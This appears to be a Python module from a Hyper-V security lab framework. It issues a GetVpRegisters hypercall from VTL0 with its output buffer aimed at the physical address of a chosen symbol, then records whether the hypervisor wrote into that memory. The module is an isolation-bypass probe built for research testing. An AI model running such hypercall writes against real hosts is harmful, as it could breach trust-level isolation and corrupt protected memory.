"""Hypercalls as VTL0 makes them: the numbers it needs, and one that has the hypervisor write where VTL0 says."""

from __future__ import annotations

import struct

from vtlab.client.driver import Driver
from vtlab.client.machine import Machine
from vtlab.client.symbols import Symbols
from vtlab.hyperv.status import HvStatus
from vtlab_attacks.evidence import Attempts, Evidence, observe
from vtlab_attacks.state import memory, show_bytes

PARTITION_SELF = 0xFFFFFFFFFFFFFFFF
VP_SELF = 0xFFFFFFFE
REP_ONE = 1 << 32
MODIFY_VTL_PROTECTION_MASK = 0x0C
GET_VP_REGISTERS = 0x50
VSM_CODE_PAGE_OFFSETS = 0x000D0002
SHOWN = 16  # bytes


def hypercall(driver: Driver, control: int, given: int, wanted: int) -> str:
    """Status of a hypercall as a denial, "" if it is success."""
    status = driver.hypercall(control, given, wanted) & 0xFFFF
    name = HvStatus(status).name if status in set(HvStatus) else hex(status)
    return f"HV_STATUS_{name}" if status else ""


def hypercall_output(symbol: str, what: str, machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """The hypervisor writes with all rights there are, unless it minds whose buffer it is."""
    target, given = symbols.physical(symbol) & -16, symbols.physical("driver_mailbox")
    machine.write_memory(given, struct.pack("<QIB3xI", PARTITION_SELF, VP_SELF, 0, VSM_CODE_PAGE_OFFSETS))

    def steps(attempts: Attempts) -> None:
        attempts.step(lambda: attempts.note(hypercall(driver, GET_VP_REGISTERS | REP_ONE, given, target)))

    return observe(what, lambda: memory(machine, target, SHOWN), steps, symbols, show=show_bytes)
